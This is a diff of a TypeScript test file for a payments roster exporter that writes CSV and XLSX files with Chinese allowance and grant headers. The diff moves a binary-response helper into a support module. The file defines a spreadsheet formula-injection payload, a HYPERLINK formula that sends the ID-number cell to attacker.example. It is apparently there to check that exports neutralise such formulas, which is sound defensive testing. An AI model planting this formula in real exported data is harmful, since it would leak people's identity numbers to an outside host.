@@ -1,21 +1,13 @@
 import ExcelJS from 'exceljs';
-import type request from 'supertest';
 import { parseCsv } from '../../src/core/csv/csv-parser';
 import { csvField, xmlText } from '../../src/modules/payments/roster.exporter';
 import { Given } from '../support/given';
 import { startTestApp, TestApp } from '../support/test-app';
+import { binary } from '../support/xlsx-read';
 
 const ALLOWANCE_HEADERS = ['序号', '姓名', '身份证号', '工作单位', '所在街镇', '届别', '期间', '第几月', '类型', '金额（元）', '备注'] as const;
 const GRANT_HEADERS = ['序号', '单位名称', '统一社会信用代码', '所在街镇', '工作室', '领衔人', '级别', '期间', '第几期', '类型', '金额（元）', '备注'] as const;
 const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?id="&C2,"王五")';
-
-function binary(test: request.Test): request.Test {
-  return test.buffer(true).parse((res, cb) => {
-    const chunks: Buffer[] = [];
-    res.on('data', (c: Buffer) => chunks.push(c));
-    res.on('end', () => cb(null, Buffer.concat(chunks)));
-  });
-}
 
 async function xlsxRows(buffer: Buffer, columns: number): Promise<unknown[][]> {
   const workbook = new ExcelJS.Workbook();
